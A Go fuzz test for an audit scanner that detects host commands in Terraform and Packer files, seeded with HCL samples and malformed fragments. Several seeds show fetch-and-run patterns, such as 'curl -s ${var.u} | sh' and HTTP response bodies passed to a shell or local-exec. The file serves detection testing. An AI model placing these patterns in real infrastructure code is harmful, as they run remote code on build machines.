package audit

import (
	"strings"
	"testing"
)

// FuzzHCLHostCmds: no Terraform or Packer text stops the reader of host
// commands (blocks, attributes, lists, heredocs, locals, environment
// maps), and every finding's line is inside the file.
func FuzzHCLHostCmds(f *testing.F) {
	for _, s := range []string{
		"data \"http\" \"h\" {\n  url = \"http://x/y\"\n}\nbuild {\n  provisioner \"shell-local\" {\n    inline = [data.http.h.body]\n  }\n}\n",
		"locals {\n  s = trimspace(data.http.h.response_body)\n}\nresource \"null_resource\" \"n\" {\n  provisioner \"local-exec\" {\n    command = <<-EOT\n      echo \"${local.s}\" | sh\n    EOT\n  }\n}\n",
		"data \"external\" \"e\" {\n  program = [\"sh\", \"-c\", \"curl -s ${var.u} | sh\"]\n}\n",
		"provisioner \"local-exec\" {\n  environment = { A = data.http.h.response_body }\n  interpreter = [\"bash\", \"-c\"]\n  command = \"$A\"\n}\n",
		"provisioner \"shell-local\" {\n  inline = [\"a\", <<EOT\nb\nEOT\n, c # x\n", "provisioner \"local-exec\" {\n  command = \"${", "post-processor \"shell-local\" {\n  inline = [ /* x */ \"", "locals {\n", "provisioner \"local-exec\" { command = [[[(((",
		strings.Repeat("provisioner \"shell-local\" {\n  inline = [\"x\",\n", 30),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanHCLHostCmds(sc, "infra/main.tf", code)
		scanHCLHostCmds(sc, "images/a.pkr.hcl", code)
		fuzzLinesInFile(t, sc, code)
	})
}
